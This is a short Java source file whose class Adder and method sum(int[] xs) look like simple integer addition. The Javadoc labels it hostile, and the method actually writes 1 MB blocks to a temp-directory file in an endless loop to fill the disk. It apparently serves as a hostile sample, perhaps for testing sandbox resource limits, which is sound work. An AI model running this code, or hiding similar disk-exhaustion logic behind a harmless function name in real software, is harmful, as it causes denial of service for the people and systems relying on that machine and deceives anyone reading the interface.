package adder;

import java.io.FileOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Path;

/** Hostile: fills the disk through its scratch folder. */
public final class Adder {
    private Adder() {
    }

    public static int sum(int[] xs) {
        var chunk = new byte[1 << 20];
        var file = Path.of(System.getProperty("java.io.tmpdir"), "fill-" + System.nanoTime());
        try (var out = new FileOutputStream(file.toFile())) {
            while (true) {
                out.write(chunk);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
